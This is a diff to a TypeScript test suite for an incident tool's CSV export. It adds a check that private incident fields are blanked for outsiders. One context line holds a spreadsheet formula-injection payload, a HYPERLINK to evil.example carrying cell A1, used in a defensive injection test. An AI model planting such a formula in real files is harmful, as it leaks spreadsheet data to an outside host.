@@ -89,4 +89,19 @@ describe('the CSV export (issue 20, items 3 and 7)', () => {
     const records = parse(text, { columns: true }) as Record<string, string>[];
     expect(records[0]?.['title']).toBe('x;=HYPERLINK("http://evil.example/?"&A1);y');
   });
+
+  it('when someone outside a private incident runs /incident export, then its severity, category, commander and hub are blank; its member sees them', async () => {
+    const outsider = await exportFor('U0ANALYST1', h.fake.files().length);
+    const hidden = outsider.find((r) => r['number'] === String(numbers.secret));
+    expect(hidden).toMatchObject({ title: '(private)', private: 'true', severity: '', category: '', commander: '', hub: '' });
+    expect(outsider.find((r) => r['number'] === String(numbers.semicolon))).toMatchObject({ severity: 'sev2', category: 'harmful-trend' });
+
+    const member = await exportFor('U0MEMBER01', h.fake.files().length);
+    expect(member.find((r) => r['number'] === String(numbers.secret))).toMatchObject({
+      title: '(private)',
+      severity: 'sev1',
+      category: 'child-safety',
+      commander: 'U0MEMBER01',
+    });
+  });
 });
